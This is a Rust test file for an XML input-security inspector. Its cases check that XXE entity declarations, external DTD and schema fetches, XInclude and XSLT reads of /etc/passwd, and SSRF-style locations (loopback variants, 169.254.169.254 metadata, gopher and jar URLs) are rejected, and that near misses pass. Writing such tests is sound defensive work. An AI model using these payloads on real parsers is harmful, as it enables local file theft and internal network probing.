            "<!DOCTYPE r [<!ENTITY % local SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\">'>%local;]><r/>",
            DOCTYPE,
        ),
        (
            "parameter laughs",
            "<!DOCTYPE r [<!ENTITY % a \"aaaa\"><!ENTITY % b \"%a;%a;%a;%a;\"><!ENTITY % c \"%b;%b;%b;%b;\">]><r/>",
            DOCTYPE,
        ),
        (
            "unparsed entity",
            "<!DOCTYPE r [<!NOTATION n SYSTEM \"x\"><!ENTITY u SYSTEM \"http://evil.example/x\" NDATA n><!ATTLIST r a ENTITY #IMPLIED>]><r a=\"u\"/>",
            DOCTYPE,
        ),
        (
            "ATTLIST default binding XInclude",
            "<!DOCTYPE r [<!ATTLIST r xmlns:xi CDATA #FIXED \"http://www.w3.org/2001/XInclude\">]><r><xi:include href=\"file:///etc/passwd\"/></r>",
            DOCTYPE,
        ),
        (
            "fake ]> in a subset comment",
            "<!DOCTYPE r [<!-- ]> --><!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "> and ] in entity literals",
            "<!DOCTYPE r [<!ENTITY x \"]>\"><!ENTITY y '>'>]><r>&x;</r>",
            DOCTYPE,
        ),
        (
            "after CDATA-looking text",
            "<r><![CDATA[ ]]> ]]&gt;</r><!DOCTYPE r>",
            DOCTYPE,
        ),
        // Java ends a PI at the first `?>`, whatever the quotes say.
        (
            "behind a PI with a quoted ?>",
            "<?pi a='?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">'?><r/>",
            DOCTYPE,
        ),
        (
            "unclosed DOCTYPE",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"",
            DOCTYPE,
        ),
        ("cut after the keyword", "<r><!DOCTYPE", DOCTYPE),
        // Java stops at the broken declaration, but a recovering parser
        // (libxml2's XML_PARSE_RECOVER skips to the next `>`) goes on to read
        // the DOCTYPE; the declaration must not swallow it.
        (
            "behind an unfinished XML declaration",
            "<?xml version=\"1.0\" ><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><?x ?><r/>",
            MALFORMED,
        ),
        // Markup declarations outside a DOCTYPE are not markup at all.
        (
            "stray ENTITY declaration",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\"><r/>",
            MALFORMED,
        ),
        (
            "stray ENTITY inside the root",
            "<r><!ENTITY x 'y'></r>",
            MALFORMED,
        ),
    ];
    check(&XmlPolicy::default(), cases);
    // However permissive the policy.
    let permissive = policy(|p| {
        p.allow_xslt = true;
        p.allow_absolute_stylesheets = true;
        p.schema_locations = SchemaLocations::Any;
        p.max_value_bytes = usize::MAX;
        p.max_depth = usize::MAX;
    });
    check(&permissive, cases);
}

#[test]
fn doctype_near_misses_pass() {
    check(
        &XmlPolicy::default(),
        &[
            (
                "escaped in text",
                "<r>&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM \"file:///x\"&gt;]&gt;</r>",
                OK,
            ),
            (
                "escaped in an attribute",
                "<r note=\"&lt;!DOCTYPE r&gt; &amp;x;\"/>",
                OK,
            ),
            (
                "the words in text",
                "<r>DOCTYPE ENTITY SYSTEM PUBLIC</r>",
                OK,
            ),
            (
                "CDATA holding a DTD",
                "<r><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>]]></r>",
                OK,
            ),
            (
                "CDATA holding other markup",
                "<r><![CDATA[<xi:include href='x'/> <?xml-stylesheet href='http://x/y.xsl'?> &#0; & < ]] ]>]]></r>",
                OK,
            ),
            (
                "comment mentioning DOCTYPE",
                "<!-- no <!DOCTYPE r> here, nor &x; --><r><!-- <!ENTITY x 'y'> --></r>",
                OK,
            ),
            (
                "PI mentioning DOCTYPE",
                "<?note <!DOCTYPE r [<!ENTITY x 'y'>]> ?><r/>",
                OK,
            ),
            (
                "elements named DOCTYPE",
                "<DOCTYPE ENTITY=\"SYSTEM\"><ENTITY/></DOCTYPE>",
                OK,
            ),
        ],
    );
}

// ---------------------------------------------------------------- references

#[test]
fn entity_references_are_rejected() {
    check(
        &XmlPolicy::default(),
        &[
            ("undeclared, in text", "<r>&xxe;</r>", ENTITY),
            ("HTML entities", "<r>&nbsp;&copy;</r>", ENTITY),
            (
                "predefined names are case sensitive",
                "<r>&AMP;</r>",
                ENTITY,
            ),
            (
                "after allowed ones",
                "<r>a &amp; b &lt; c &ent; d</r>",
                ENTITY,
            ),
            ("nested", "<r><a><b>&x;</b></a></r>", ENTITY),
            ("in an attribute", "<r a=\"&xxe;\"/>", ENTITY),
            (
                "in an attribute, after the five",
                "<r a=\"&amp;&lt;&gt;&quot;&apos;&x;\"/>",
                ENTITY,
            ),
            (
                "in a namespace declaration",
                "<r xmlns:p=\"&ns;\"/>",
                ENTITY,
            ),
            ("in the second attribute", "<r a=\"1\" b='&x;'/>", ENTITY),
            ("ending a 16-byte text", "<r>0123456789&xxe;</r>", ENTITY),
            ("ending a 17-byte text", "<r>01234567890&xxe;</r>", ENTITY),
            (
                "after 40 bytes of text",
                "<r>0123456789012345678901234567890123456789&xxe;</r>",
                ENTITY,
            ),
            (
                "after 40 bytes of a value",
                "<r a=\"0123456789012345678901234567890123456789&xxe;\"/>",
                ENTITY,
            ),
            (
                "after a long value",
                "<r a=\"0123456789012345678901234567890123456789\" b=\"&x;\"/>",
                ENTITY,
            ),
            (
                "after an allowed one, far in",
                "<r a=\"01234567890123456789&amp;01234567890123456789&x;\"/>",
                ENTITY,
            ),
            ("&#0;", "<r>&#0;</r>", ENTITY),
            ("&#x0;", "<r>&#x0;</r>", ENTITY),
            ("&#x1;", "<r>&#x1;</r>", ENTITY),
            ("&#8;", "<r>&#8;</r>", ENTITY),
            ("&#xB;", "<r>&#xB;</r>", ENTITY),
            ("&#x1F;", "<r>&#x1F;</r>", ENTITY),
            ("&#xD800;", "<r>&#xD800;</r>", ENTITY),
            ("&#57343; (low surrogate)", "<r>&#57343;</r>", ENTITY),
            ("&#xFFFE;", "<r>&#xFFFE;</r>", ENTITY),
            ("&#xFFFF;", "<r>&#xFFFF;</r>", ENTITY),
            ("&#x110000;", "<r>&#x110000;</r>", ENTITY),
            ("&#1114112;", "<r>&#1114112;</r>", ENTITY),
            ("&#0; in an attribute", "<r a=\"&#0;\"/>", ENTITY),
            ("&#x1; in an attribute", "<r a=\"x&#x1;\"/>", ENTITY),
            ("&#xD800; in an attribute", "<r a=\"&#xD800;\"/>", ENTITY),
            ("&#xFFFE; in an attribute", "<r a=\"&#xFFFE;\"/>", ENTITY),
            (
                "&#x110000; in an attribute",
                "<r a=\"&#x110000;\"/>",
                ENTITY,
            ),
        ],
    );
}

#[test]
fn allowed_references_pass() {
    check(
        &XmlPolicy::default(),
        &[
            (
                "the five predefined",
                "<r>&amp;&lt;&gt;&quot;&apos;</r>",
                OK,
            ),
            (
                "the five in an attribute",
                "<r a=\"&amp;&lt;&gt;&quot;&apos;\"/>",
                OK,
            ),
            ("&#x1F600;", "<r>&#x1F600;</r>", OK),
            ("&#x1F600; in an attribute", "<r a=\"&#x1F600;\"/>", OK),
            ("&#9;", "<r>&#9;</r>", OK),
            ("LF and CR", "<r>&#10;&#xD;&#xa;</r>", OK),
            ("&#65;", "<r>&#65;</r>", OK),
            ("hex digits in both cases", "<r>&#x41;&#x4a;&#x4A;</r>", OK),
            (
                "edges of the ranges",
                "<r>&#x20;&#xD7FF;&#xE000;&#xFFFD;&#x10000;&#x10FFFF;</r>",
                OK,
            ),
            (
                "escaped < in an attribute",
                "<r a=\"x &#60; y &#x3C; z &lt;\"/>",
                OK,
            ),
            ("references spelled out", "<r>&amp;xxe; &amp;#0;</r>", OK),
        ],
    );
}

// ---------------------------------------------------------------- XInclude

#[test]
fn xinclude_is_rejected_whatever_the_prefix() {
    let cases = [
        ("xi prefix", format!("<r xmlns:xi=\"{XI}\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>")),
        ("another prefix", format!("<r xmlns:inc=\"{XI}\"><inc:include href=\"x\"/></r>")),
        ("default namespace", format!("<r><include xmlns=\"{XI}\" href=\"x\"/></r>")),
        ("default namespace of the root", format!("<r xmlns=\"{XI}\"/>")),
        ("declared on the element", format!("<r><xi:include xmlns:xi=\"{XI}\" href=\"x\"/></r>")),
        ("as the root", format!("<xi:include xmlns:xi=\"{XI}\" href=\"file:///etc/passwd\"/>")),
        ("declared far above", format!("<r xmlns:xi=\"{XI}\"><a><b><c><xi:include href=\"x\"/></c></b></a></r>")),
        ("fallback", format!("<r xmlns:xi=\"{XI}\"><xi:fallback/></r>")),
        ("prefix rebound to XInclude", format!("<r xmlns:p=\"urn:ok\"><p:a><p:b xmlns:p=\"{XI}\"/></p:a></r>")),
        ("2003 namespace", "<r xmlns:xi=\"http://www.w3.org/2003/XInclude\"><xi:include href=\"x\"/></r>".into()),
        (
            "URI with a character reference",
            "<r xmlns:x=\"&#104;ttp://www.w3.org/2001/XInclude\"><x:include href=\"x\"/></r>".into(),
        ),
        (
            "URI of character references",
            "<r xmlns:x=\"&#x68;&#x74;&#x74;&#x70;&#x3A;//www.w3.org/2001/XInclude\"><x:include href=\"x\"/></r>"
                .into(),
        ),
        (
            "default namespace with a reference",
            "<r><include xmlns=\"http://www.w3.org/2001/XInclud&#101;\" href=\"x\"/></r>".into(),
        ),
    ];
    let cases: Vec<_> = cases.iter().map(|(n, d)| (n, d, XINCLUDE)).collect();
    check(&XmlPolicy::default(), &cases);
}

#[test]
fn xinclude_near_misses_pass() {
    check(
        &XmlPolicy::default(),
        &[
            (
                "include in another namespace",
                "<r xmlns:x=\"urn:example\"><x:include href=\"x\"/></r>".into(),
                OK,
            ),
            (
                "include in no namespace",
                "<r><include href=\"x\"/></r>".into(),
                OK,
            ),
            (
                "xi bound elsewhere",
                "<r><xi:include xmlns:xi=\"urn:not-xinclude\" href=\"x\"/></r>".into(),
                OK,
            ),
            (
                "xi rebound below",
                format!(
                    "<r xmlns:xi=\"{XI}\"><a xmlns:xi=\"urn:other\"><xi:include href=\"x\"/></a></r>"
                ),
                OK,
            ),
            (
                "declared, not used",
                format!("<r xmlns:xi=\"{XI}\"><include href=\"x\"/></r>"),
                OK,
            ),
            (
                "default namespace undeclared below",
                format!("<a xmlns=\"{XI}-not\"><b xmlns=\"\"><include/></b></a>"),
                OK,
            ),
            (
                "a longer URI",
                format!("<r xmlns:xi=\"{XI}/\"><xi:include href=\"x\"/></r>"),
                OK,
            ),
            ("the URI as text", format!("<r>{XI}</r>"), OK),
            // Decision: XInclude processors (Xerces' XIncludeHandler) act on
            // `include` and `fallback` elements only; an attribute in the
            // XInclude namespace means nothing to them, and the inspector
            // judges elements only, so it passes.
            (
                "attribute in the XInclude namespace",
                format!("<r xmlns:xi=\"{XI}\" xi:href=\"file:///etc/passwd\"/>"),
                OK,
            ),
        ],
    );
}

// ---------------------------------------------------------------- well-formedness

#[test]
fn malformed_documents_are_rejected() {
    check(
        &XmlPolicy::default(),
        &[
            ("unclosed element at the end", "<a><b></b>", MALFORMED),
            ("unclosed nested elements", "<a><b><c>", MALFORMED),
            ("unclosed start tag", "<a", MALFORMED),
            ("unclosed attribute value", "<a x='1", MALFORMED),
            ("unclosed comment", "<a><!-- x", MALFORMED),
            ("unclosed CDATA", "<a><![CDATA[ x", MALFORMED),
            ("unclosed PI", "<a><?pi x", MALFORMED),
            ("mismatched end", "<a><b></a></b>", MALFORMED),
            (
                "mismatched end, same namespace",
                "<p:a xmlns:p=\"u\" xmlns:q=\"u\"></q:a>",
                MALFORMED,
            ),
            ("end tag in another case", "<a></A>", MALFORMED),
            ("end without start", "</a>", MALFORMED),
            ("end after the root", "<a/></a>", MALFORMED),
            ("duplicate attribute", "<a x=\"1\" x=\"2\"/>", MALFORMED),
            (
                "duplicate attribute among many",
                "<a a=\"\" b=\"\" c=\"\" d=\"\" e=\"\" f=\"\" g=\"\" h=\"\" i=\"\" j=\"\" k=\"\" l=\"\" m=\"\" n=\"\" o=\"\" p=\"\" q=\"\" a=\"\"/>",
                MALFORMED,
            ),
            (
                "duplicate expanded name",
                "<a xmlns:p=\"urn:u\" xmlns:q=\"urn:u\" p:x=\"1\" q:x=\"2\"/>",
                MALFORMED,
            ),
            (
                "duplicate expanded name, inherited",
                "<r xmlns:p=\"urn:u\"><a xmlns:q=\"urn:u\" q:x=\"1\" p:x=\"2\"/></r>",
                MALFORMED,
            ),
            (
                "duplicate prefixed attribute",
                "<a xmlns:p=\"urn:u\" p:x=\"1\" p:x=\"2\"/>",
                MALFORMED,
            ),
            (
                "duplicate namespace declaration",
                "<a xmlns:p=\"urn:u\" xmlns:p=\"urn:u\"/>",
                MALFORMED,
            ),
            (
                "duplicate default namespace",
                "<a xmlns=\"urn:u\" xmlns=\"urn:u\"/>",
                MALFORMED,
            ),
            ("two roots", "<a/><b/>", MALFORMED),
            ("two roots with content", "<a>x</a>\n<a>y</a>", MALFORMED),
            ("text after the root", "<a/>x", MALFORMED),
            ("text before the root", "x<a/>", MALFORMED),
            ("no-break space after the root", "<a/>\u{A0}", MALFORMED),
            ("CDATA after the root", "<a/><![CDATA[x]]>", MALFORMED),
            ("CDATA before the root", "<![CDATA[x]]><a/>", MALFORMED),
            ("empty CDATA after the root", "<a/><![CDATA[]]>", MALFORMED),
            (
                "white-space CDATA before the root",
                "<![CDATA[ ]]><a/>",
                MALFORMED,
            ),
            ("reference after the root", "<a/>&amp;", MALFORMED),
            (
                "character reference before the root",
                "&#32;<a/>",
                MALFORMED,
            ),
            ("entity reference after the root", "<a/>&x;", MALFORMED),
            ("empty document", "", MALFORMED),
            ("only white space", " \n\t ", MALFORMED),
            ("only a comment", "<!-- c -->", MALFORMED),
            ("only a declaration", "<?xml version=\"1.0\"?>", MALFORMED),
            ("only a PI", "<?pi x?>", MALFORMED),
            ("undeclared element prefix", "<p:a/>", MALFORMED),
            ("undeclared attribute prefix", "<a p:x=\"1\"/>", MALFORMED),
            (
                "prefix out of scope",
                "<a><b xmlns:p=\"u\"/><p:c/></a>",
                MALFORMED,
            ),
            ("xmlns prefix on an element", "<xmlns:a/>", MALFORMED),
            ("empty prefixed namespace", "<a xmlns:p=\"\"/>", MALFORMED),
            ("xmlns declared", "<a xmlns:xmlns=\"urn:x\"/>", MALFORMED),
            ("xml prefix rebound", "<a xmlns:xml=\"urn:x\"/>", MALFORMED),
            (
                "XML namespace to another prefix",
                "<a xmlns:p=\"http://www.w3.org/XML/1998/namespace\"/>",
                MALFORMED,
            ),
            (
                "xmlns namespace bound",
                "<a xmlns:p=\"http://www.w3.org/2000/xmlns/\"/>",
                MALFORMED,
            ),
            ("two colons", "<a:b:c xmlns:a=\"u\"/>", MALFORMED),
            ("name starts with a digit", "<1a/>", MALFORMED),
            (
                "attribute name starts with a digit",
                "<a 1b=\"x\"/>",
                MALFORMED,
            ),
            ("space after <", "< a/>", MALFORMED),
            (
                "attributes without white space",
                "<a x=\"1\"y=\"2\"/>",
                MALFORMED,
            ),
            (
                "name without white space after a value",
                "<a x=\"1\"y/>",
                MALFORMED,
            ),
            ("unquoted value", "<a x=1/>", MALFORMED),
            ("attribute without value", "<a x/>", MALFORMED),
            ("< in an attribute value", "<a x=\"<\"/>", MALFORMED),
            ("< in a single-quoted value", "<a x='a<b'/>", MALFORMED),
            (
                "< after 40 bytes of a value",
                "<a x='0123456789012345678901234567890123456789<'/>",
                MALFORMED,
            ),
            (
                "value not closed",
                "<a x='0123456789012345678901234567890123456789/>",
                MALFORMED,
            ),
            ("? in a start tag", "<a?>", MALFORMED),
            ("? in an end tag", "<a></a?>", MALFORMED),
            ("/ not closing a start tag", "<a/ >", MALFORMED),
            ("attributes on an end tag", "<a></a x=\"1\">", MALFORMED),
            ("bare & in text", "<a>a & b</a>", MALFORMED),
            ("bare & ending text", "<a>&</a>", MALFORMED),
            ("& without ; in text", "<a>&amp</a>", MALFORMED),
            ("bare & in an attribute", "<a x=\"a & b\"/>", MALFORMED),
            ("& without ; in an attribute", "<a x=\"&amp\"/>", MALFORMED),
            (
                "& without ; before another attribute",
                "<a x=\"&amp\" y=\";\"/>",
                MALFORMED,
            ),
            ("empty reference", "<a>&;</a>", MALFORMED),
            ("bad character reference", "<a>&#xZZ;</a>", MALFORMED),
            (
                "upper-case X in a character reference",
                "<a>&#X41;</a>",
                MALFORMED,
            ),
            (
                "declaration after white space",
                "  <?xml version=\"1.0\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration after a newline",
                "\n<?xml version=\"1.0\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration after a comment",
                "<!-- c --><?xml version=\"1.0\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration inside the root",
                "<a><?xml version=\"1.0\"?></a>",
                MALFORMED,
            ),
            (
                "declaration after the root",
                "<a/><?xml version=\"1.0\"?>",
                MALFORMED,
            ),
            (
                "declaration in upper case",
                "<a><?XML version=\"1.0\"?></a>",
                MALFORMED,
            ),
            (
                "garbage in the declaration",
                "<?xml version=\"1.0\" garbage ?><a/>",
                MALFORMED,
            ),
            (
                "declaration without version",
                "<?xml encoding=\"UTF-8\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration of version 2.0",
                "<?xml version=\"2.0\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration out of order",
                "<?xml version=\"1.0\" standalone=\"yes\" encoding=\"UTF-8\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration with standalone=maybe",
                "<?xml version=\"1.0\" standalone=\"maybe\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration with an unknown pseudo-attribute",
                "<?xml version=\"1.0\" doctype=\"r\"?><a/>",
                MALFORMED,
            ),
            (
                "declaration not closed",
                "<?xml version=\"1.0\" <a/>",
                MALFORMED,
            ),
            (
                "markup in the declaration",
                "<?xml version=\"1.0\" <a/> ?><a/>",
                MALFORMED,
            ),
            ("PI without a target", "<??><a/>", MALFORMED),
            ("PI target with a colon", "<?a:b?><a/>", MALFORMED),
            ("PI target without white space", "<?a>?><a/>", MALFORMED),
            ("NUL in text", "<a>\0</a>", MALFORMED),
            ("NUL after the root", "<a/>\0", MALFORMED),
            ("U+0001 in an attribute", "<a x=\"\u{1}\"/>", MALFORMED),
            ("vertical tab", "<a>\u{B}</a>", MALFORMED),
            ("form feed", "<a>\u{C}</a>", MALFORMED),
            ("escape in a comment", "<a><!-- \u{1B} --></a>", MALFORMED),
            ("-- inside a comment", "<a><!-- a -- b --></a>", MALFORMED),
            ("comment ending in --->", "<!-- a ---><a/>", MALFORMED),
        ],
    );
}

#[test]
fn invalid_utf8_is_malformed() {
    check_bytes(
        &XmlPolicy::default(),
        &[
            ("stray byte", b"<a>\xFF</a>".to_vec(), None, MALFORMED),
            (
                "overlong <",
                b"<a>\xC0\xBC!DOCTYPE</a>".to_vec(),
                None,
                MALFORMED,
            ),
            (
                "encoded surrogate",
                b"<a>\xED\xA0\x80</a>".to_vec(),
                None,
                MALFORMED,
            ),
            (
                "truncated sequence",
                b"<a>\xE2\x82</a>".to_vec(),
                None,
                MALFORMED,
            ),
            (
                "Latin-1 without a declaration",
                b"<a>caf\xE9</a>".to_vec(),
                None,
                MALFORMED,
            ),
            ("invalid in a name", b"<a\xFF/>".to_vec(), None, MALFORMED),
            (
                "valid multi-byte (near miss)",
                "<a é=\"ü\">😀€</a>".into(),
                None,
                OK,
            ),
        ],
    );
}

#[test]
fn well_formed_near_misses_pass() {
    check(
        &XmlPolicy::default(),
        &[
            ("white space in the end tag", "<a></a >", OK),
            ("newline in the end tag", "<a></a\n>", OK),
            ("attributes over lines", "<a\n  x=\"1\"\r\n\ty='2'\n/>", OK),
            ("spaces around =", "<a x = '1' />", OK),
            ("quotes inside the other quotes", "<a x=\"'\" y='\"'/>", OK),
            ("> in attribute values", "<a x=\"a>b\" y='>'/>", OK),
            (
                "long values with the other quote",
                "<a x=\"0123456789012345678901234567890123456789'\" y='0123456789012345678901234567890123456789\"'/>",
                OK,
            ),
            (
                "misc around the root",
                "<?xml version=\"1.0\"?>\n<!-- c -->\n<?pi x?>\n<a/>\n<!-- after -->\n<?after?>\n",
                OK,
            ),
            (
                "CRLF line ends",
                "<?xml version=\"1.0\"?>\r\n<a>\r\n  <b/>\r\n</a>\r\n",
                OK,
            ),
            ("empty CDATA", "<a><![CDATA[]]></a>", OK),
            ("CDATA ending in ]", "<a><![CDATA[x]]]></a>", OK),
            ("empty comment", "<a><!----></a>", OK),
            (
                "prefixed and plain, one local name",
                "<p:a xmlns:p=\"u\" p:x=\"1\" x=\"2\"/>",
                OK,
            ),
            (
                "one local name, two namespaces",
                "<a xmlns:p=\"urn:1\" xmlns:q=\"urn:2\" p:x=\"1\" q:x=\"2\"/>",
                OK,
            ),
            (
                "xml prefix needs no declaration",
                "<a xml:lang=\"en\" xml:space=\"preserve\" xml:id=\"i\"/>",
                OK,
            ),
            (
                "xml prefix declared correctly",
                "<a xmlns:xml=\"http://www.w3.org/XML/1998/namespace\"/>",
                OK,
            ),
            ("default namespace undeclared", "<a xmlns=\"\"/>", OK),
            (
                "default namespace undeclared below",
                "<a xmlns=\"urn:u\"><b xmlns=\"\"/></a>",
                OK,
            ),
            (
                "prefix declared after its use",
                "<p:a p:x=\"1\" xmlns:p=\"urn:u\"/>",
                OK,
            ),
            (
                "prefix rebound below",
                "<p:a xmlns:p=\"urn:1\"><p:b xmlns:p=\"urn:2\"/></p:a>",
                OK,
            ),
            ("names with - . _ and digits", "<_a.b-c1 d-e.f_2=\"\"/>", OK),
            (
                "non-ASCII names",
                "<straße größe=\"1\"><日本/></straße>",
                OK,
            ),
            (
                "xmlns-like attribute names",
                "<a xmlnsfoo=\"1\" xmlfoo=\"2\"/>",
                OK,
            ),
            (
                "full declaration",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><a/>",
                OK,
            ),
            (
                "declaration with spaces",
                "<?xml  version = '1.0'\n encoding = \"utf-8\"  standalone='no' ?>\n<a/>",
                OK,
            ),
            ("XML 1.1 declaration", "<?xml version=\"1.1\"?><a/>", OK),
            ("white space around the root", "\n\t <a/>\n\t ", OK),
            ("mixed content", "<a>x<b>y</b>z<c/>&amp;</a>", OK),
            ("]] and > in text", "<a>a]] b> c]</a>", OK),
            ("PI with ? inside", "<a><?pi what? yes?></a>", OK),
        ],
    );
}

// ---------------------------------------------------------------- XSLT

#[test]
fn xslt_follows_the_policy() {
    let xslt = [
        (
            "stylesheet",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:value-of select=\"document('file:///etc/passwd')\"/></xsl:template></xsl:stylesheet>",
        ),
        (
            "transform, other prefix",
            "<t:transform version=\"1.0\" xmlns:t=\"http://www.w3.org/1999/XSL/Transform\"/>",
        ),
        (
            "default namespace",
            "<stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/>",
        ),
        (
            "inside another document",
            "<r><x:include xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" href=\"http://evil.example/x.xsl\"/></r>",
        ),
        (
            "literal result element",
            "<html xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xsl:version=\"1.0\"><xsl:value-of select=\"1\"/></html>",
        ),
    ];
    let rejected_by_default: Vec<_> = xslt.iter().map(|&(n, d)| (n, d, XSLT)).collect();
    check(&XmlPolicy::default(), &rejected_by_default);
    let allowed: Vec<_> = xslt.iter().map(|&(n, d)| (n, d, OK)).collect();
    check(&policy(|p| p.allow_xslt = true), &allowed);
    check(
        &XmlPolicy::default(),
        &[
            (
                "xsl bound elsewhere",
                "<xsl:stylesheet xmlns:xsl=\"urn:not-xslt\"/>",
                OK,
            ),
            (
                "XSLT's URI in a value",
                "<r ns=\"http://www.w3.org/1999/XSL/Transform\"/>",
                OK,
            ),
            (
                "stylesheet in no namespace",
                "<stylesheet version=\"1.0\"/>",
                OK,
            ),
        ],
    );
    let v = rejected(&XmlPolicy::default(), xslt[0].1.as_bytes(), XSLT);
    assert_eq!(v.location(), "/stylesheet");
}

// ---------------------------------------------------------------- schema locations

fn schema_location_doc(value: &str) -> String {
    format!(
        "<r xmlns=\"urn:r\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"{value}\"/>"
    )
}

fn no_namespace_schema_location_doc(value: &str) -> String {
    format!(
        "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"{value}\"/>"
    )
}

/// Schema locations the default policy accepts.
const PUBLIC_SCHEMA_LOCATIONS: &[&str] = &[
    "https://maven.apache.org/xsd/maven-4.0.0.xsd",
    "http://www.omg.org/spec/BPMN/20100524/BPMN20.xsd",
    "BPMN20.xsd",
    "xsd/BPMN20.xsd",
    "HTTP://Example.COM:8080/x.xsd",
    "http://8.8.8.8/x.xsd",
    "http://[2001:db8::1]/x.xsd",
];

/// Schema locations the default policy rejects.
const PRIVATE_SCHEMA_LOCATIONS: &[&str] = &[
    "file:///etc/passwd",
    "file:/etc/passwd",
    "jar:http://evil.example/x.jar!/x.xsd",
    "ftp://evil.example/x.xsd",
    "netdoc:/etc/passwd",
    "gopher://evil.example/_x",
    "data:text/plain,x",
    "http://127.0.0.1/x.xsd",
    "http://127.1/x.xsd",
    "http://2130706433/x.xsd",
    "http://0x7f000001/x.xsd",
    "http://0x7F.1/x.xsd",
    "http://0177.0.0.1/x.xsd",
    "http://[::1]/x.xsd",
    "http://[0:0:0:0:0:0:0:1]:8080/x.xsd",
    "http://[::ffff:127.0.0.1]/x.xsd",
    "http://[fe80::1]/x.xsd",
    "http://[fd00::1]/x.xsd",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/x.xsd",
    "http://172.16.0.1/x.xsd",
    "http://192.168.1.1:8080/x.xsd",
    "http://0.0.0.0/x.xsd",
    "http://localhost/x.xsd",
    "http://LOCALHOST.:8080/x.xsd",
    "http://api.localhost/x.xsd",
    "http://user@evil.example/x.xsd",
    "/etc/x.xsd",
    "../../etc/x.xsd",
    "C:\\x.xsd",
];

#[test]
fn schema_locations_follow_the_policy() {
    let mut by_default = Vec::new();
    let mut any = Vec::new();
    let mut none = Vec::new();
    for (locations, expected) in [
        (PUBLIC_SCHEMA_LOCATIONS, OK),
        (PRIVATE_SCHEMA_LOCATIONS, SCHEMA),
    ] {
        for &location in locations {
            for doc in [
                schema_location_doc(&format!("urn:r {location}")),
                no_namespace_schema_location_doc(location),
            ] {
                by_default.push((location, doc.clone(), expected));
                any.push((location, doc.clone(), OK));
                none.push((location, doc, SCHEMA));
            }
        }
    }
    check(&XmlPolicy::default(), &by_default);
    check(&policy(|p| p.schema_locations = SchemaLocations::Any), &any);
    check(
        &policy(|p| p.schema_locations = SchemaLocations::None),
        &none,
    );
    let camunda = camunda();
    assert_eq!(camunda.schema_locations, SchemaLocations::PublicHttp);
    check(&camunda, &by_default);
}

#[test]
fn schema_location_values_are_read_like_a_parser_reads_them() {
    let pairs = schema_location_doc;
    let single = no_namespace_schema_location_doc;
    check(
        &XmlPolicy::default(),
        &[
            ("two pairs", pairs("urn:a http://example.com/a.xsd urn:b b.xsd"), OK),
            ("white space between", pairs("\n   urn:a\thttp://example.com/a.xsd\r\n urn:b  b.xsd  "), OK),
            // Only locations are fetched; the namespace is just a name.
            ("odd namespace name", pairs("file:///etc/passwd http://example.com/a.xsd"), OK),
            ("one bad pair of two", pairs("urn:a http://example.com/a.xsd urn:b file:///etc/passwd"), SCHEMA),
            ("a single token", pairs("http://example.com/a.xsd"), SCHEMA),
            ("three tokens", pairs("urn:a http://example.com/a.xsd urn:b"), SCHEMA),
            ("two locations for no namespace", single("a.xsd b.xsd"), SCHEMA),
            ("scheme by character reference", pairs("urn:r &#102;ile:///etc/passwd"), SCHEMA),
            ("host by character reference", pairs("urn:r http://127.0.0.&#49;/x.xsd"), SCHEMA),
            ("tab as separator", pairs("urn:r\tfile:///etc/passwd"), SCHEMA),
            // XML 1.1 reads NEL and LSEP as line ends, hence as white space
            // in attribute values: these are four tokens to the parser.
            (
                "NEL and LSEP as separators (XML 1.1)",
                format!(
                    "<?xml version=\"1.1\"?>{}",
                    pairs("urn:a\u{85}http://ok.example/x.xsd http://ok.example/x\u{2028}file:///etc/passwd")
                ),
                SCHEMA,
            ),
            ("NEL in a single location", single("http://ok.example/x.xsd\u{85}file:///x"), SCHEMA),
            ("other non-ASCII in a location", pairs("urn:a http://example.com/gr\u{fc}\u{df}e\u{a0}.xsd"), OK),
            (
                "another prefix for XSI",
                "<r xmlns:s=\"http://www.w3.org/2001/XMLSchema-instance\" s:noNamespaceSchemaLocation=\"file:///x\"/>"
                    .into(),
                SCHEMA,
            ),
            (
                "deep inside",
                "<r><a><b xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x jar:file:///x.jar!/x.xsd\"/></a></r>"
                    .into(),
                SCHEMA,
            ),
            // Near misses.
            (
                "XSI as the default namespace is not the attributes' namespace",
                "<r xmlns=\"http://www.w3.org/2001/XMLSchema-instance\" noNamespaceSchemaLocation=\"file:///x\"/>"
                    .into(),
                OK,
            ),
            ("xsi bound elsewhere", "<r xmlns:xsi=\"urn:not-xsi\" xsi:schemaLocation=\"urn:r file:///x\"/>".into(), OK),
            ("unprefixed schemaLocation", "<r schemaLocation=\"urn:r file:///etc/passwd\"/>".into(), OK),
            (
                "other XSI attributes",
                "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"file:x\" xsi:nil=\"true\"/>"
                    .into(),
                OK,
            ),
        ],
    );
}

const XSD_NS: &str = "http://www.w3.org/2001/XMLSchema";

